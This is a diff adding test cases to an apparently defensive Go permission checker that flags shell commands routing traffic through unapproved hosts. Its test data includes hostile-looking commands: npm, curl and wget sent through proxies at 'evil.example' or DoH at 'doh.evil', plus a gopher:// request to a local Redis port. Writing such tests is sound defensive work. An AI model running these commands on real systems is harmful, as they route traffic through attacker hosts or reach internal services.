@@ -44,6 +44,8 @@ var secretHostTierCases = []tierCase{
 	{name: "--doh-url", cmd: "curl --doh-url https://doh.evil/q https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] doh.evil"},
 	{name: "every host granted", cmd: "curl -x http://proxy.corp:3128 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com", "project-grants allow [http] proxy.corp"}, want: Allow},
 	{name: "wget -e https_proxy", cmd: "wget -e https_proxy=evil.example:3128 https://api.github.com/", rules: []string{"global allow wget *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] evil.example"},
+	{name: "npm --proxy is a host", cmd: "npm install --proxy=evil.example:3128", rules: []string{"global allow npm *"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
+	{name: "a proxy variable is a host", cmd: "https_proxy=http://evil.example:3128 curl https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask},
 	{name: "wget -i reads URLs from a file", cmd: "wget -i urls.txt", rules: []string{"global allow wget *"}, want: Ask, rule: RuleNetworkUnseen},
 	{name: "gopher asks under curl *", cmd: "curl gopher://localhost:6379/_INFO", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Ask, rule: "url-scheme"},
 	// localhost's control ports
